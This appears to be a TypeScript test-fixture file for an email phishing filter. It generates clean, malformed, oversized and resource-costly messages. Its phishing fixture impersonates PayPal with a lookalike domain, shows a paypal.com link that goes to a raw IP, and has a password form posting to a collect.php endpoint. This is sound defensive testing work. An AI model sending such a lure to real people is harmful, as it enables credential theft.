/** Test messages, generated so each one's intent is visible. CRLF is applied when sent. */
import { prng } from '../../lib/nlp/train.js';

export function cleanMessage(opts: { subject?: string; extraHeaders?: string[]; body?: string } = {}): string {
  return [
    'From: Alice Example <alice@example.com>',
    'To: bob@example.org',
    `Subject: ${opts.subject ?? 'Lunch on Friday?'}`,
    'Message-ID: <clean-1@example.com>',
    'Date: Tue, 24 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    ...(opts.extraHeaders ?? []),
    '',
    opts.body ?? 'Hi Bob,\n\nare we still on for lunch on Friday? The menu is at https://www.example.com/menu.\n\nAlice',
    '',
  ].join('\n');
}

/** Brand impersonation + link text showing paypal.com that goes to a public IP: rejects (score ≥ 70). */
export function phishMessage(extraHeaders: string[] = []): string {
  return [
    'From: "PayPal Service" <service@paypa1-support.top>',
    'To: bob@example.org',
    'Subject: Your account has been limited',
    'Message-ID: <phish-1@paypa1-support.top>',
    'MIME-Version: 1.0',
    ...extraHeaders,
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><body><p>Dear customer, we noticed unusual activity.</p>',
    '<p><a href="http://45.33.32.156/paypal.com/webscr/login.php">https://www.paypal.com/signin</a></p>',
    '<form action="http://45.33.32.156/collect.php" method="post"><input type="password" name="pw"></form>',
    '</body></html>',
    '',
  ].join('\n');
}

/** Display name names a brand the address does not belong to, plus a shortened link: quarantine band (50..69) without the classifier. */
export function quarantineMessage(): string {
  return [
    'From: "Microsoft Account Team" <alerts@account-notice.example.net>',
    'To: bob@example.org',
    'Subject: Unusual sign-in activity',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'We detected something unusual about a recent sign-in. Review it at https://bit.ly/3xQz9Lm to keep your account.',
    '',
  ].join('\n');
}

/** Multipart with a boundary that never closes, broken base64 and an unknown charset. */
export function malformedMimeMessage(): string {
  return [
    'From: broken@example.com',
    'To: bob@example.org',
    'Subject: =?x-unknown-charset?B?////?= broken',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="never-closed"',
    '',
    '--never-closed',
    'Content-Type: text/plain; charset=no-such-charset',
    'Content-Transfer-Encoding: base64',
    '',
    'this is !!! not base64 @@@ at all ===',
    '--never-closed',
    'Content-Type: multipart/alternative; boundary=',
    '',
    '<a href="http://example.net/x">truncated',
    '',
  ].join('\n');
}

/** Headers, then lines of random 8-bit bytes (no CR, LF or NUL). */
export function garbage8bitMessage(lines = 200, seed = 7): Buffer {
  let x = seed;
  const rnd = (): number => ((x = (x * 1103515245 + 12345) & 0x7fffffff), x);
  const head = Buffer.from('From: noise@example.com\r\nTo: bob@example.org\r\nSubject: \xff\xfe garbage\r\n\r\n', 'latin1');
  const body: Buffer[] = [];
  for (let l = 0; l < lines; l++) {
    const line = Buffer.alloc(70);
    for (let i = 0; i < line.length; i++) {
      let b = rnd() & 0xff;
      if (b === 0 || b === 10 || b === 13) b = 0xa0;
      line[i] = b;
    }
    body.push(line, Buffer.from('\r\n'));
  }
  return Buffer.concat([head, ...body]);
}

/**
 * An HTML message of `lines` lines of 60 random block characters in a <pre> (~150 bytes a
 * line): read as a possible drawn QR code, the costliest scan per byte found (4,000 lines
 * ~0.1-0.2 s, 15,000 lines, 2.3 MB, ~0.5 s; docs/benchmarks.md). The same for the same seed.
 */
export function costlyBlockCharMessage(lines: number, seed = 1): string {
  const rnd = prng(seed);
  const pre = Array.from({ length: lines }, () => Array.from({ length: 60 }, () => '▀▄█ '[Math.floor(rnd() * 4)]).join(''));
  return [
    'From: a@flood.example',
    'To: bob@example.org',
    'Subject: costly',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    `<html><body><pre>${pre.join('\n')}</pre></body></html>`,
    '',
  ].join('\n');
}

/** A message of about `mb` megabytes: a text part plus one base64 attachment. */
export function bigMessage(mb: number): string {
  const b64 = Buffer.alloc(Math.floor((mb * 1024 * 1024 * 3) / 4), 0x41).toString('base64');
  const lines = b64.match(/.{1,76}/g)!.join('\n');
  return [
    'From: big@example.com',
    'To: bob@example.org',
    'Subject: big attachment',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/plain',
    '',
    'The report is attached.',
    '--b1',
    'Content-Type: application/octet-stream; name="report.bin"',
    'Content-Disposition: attachment; filename="report.bin"',
    'Content-Transfer-Encoding: base64',
    '',
    lines,
    '--b1--',
    '',
  ].join('\n');
}

/** multipart/mixed with `n` small parts. */
export function manyPartsMessage(n: number): string {
  const parts: string[] = [];
  for (let i = 0; i < n; i++) parts.push('--mp', 'Content-Type: text/plain', `Content-Disposition: attachment; filename="part${i}.txt"`, '', `part ${i}`);
  return [
    'From: parts@example.com',
    'To: bob@example.org',
    'Subject: many parts',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="mp"',
    '',
    ...parts,
    '--mp--',
    '',
  ].join('\n');
}

/** Multipart nested `depth` levels deep. */
export function deepNestedMessage(depth: number): string {
  const open: string[] = [];
  const close: string[] = [];
  for (let i = 0; i < depth; i++) {
    open.push(`--d${i}`, `Content-Type: multipart/mixed; boundary="d${i + 1}"`, '');
    close.unshift(`--d${i}--`);
  }
  return [
    'From: deep@example.com',
    'To: bob@example.org',
    'Subject: deep',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="d0"',
    '',
    ...open,
    `--d${depth}`,
    'Content-Type: text/plain',
    '',
    'bottom http://example.com/',
    `--d${depth}--`,
    ...close,
    '',
  ].join('\n');
}

/** `phishMessage()` with `zip` attached as invoice.zip: a lure whose attachment must not blind the scan. */
export function lureWithZip(zip: Buffer): string {
  const lure = phishMessage().split('\n');
  const at = lure.findIndex((l) => l.startsWith('Content-Type: text/html'));
  const head = lure.slice(0, at);
  const body = lure.slice(at);
  return [
    ...head,
    'Content-Type: multipart/mixed; boundary="lure-zip"',
    '',
    '--lure-zip',
    ...body,
    '--lure-zip',
    'Content-Type: application/zip; name="invoice.zip"',
    'Content-Disposition: attachment; filename="invoice.zip"',
    'Content-Transfer-Encoding: base64',
    '',
    zip.toString('base64').replace(/.{76}/g, '$&\n'),
    '--lure-zip--',
    '',
  ].join('\n');
}
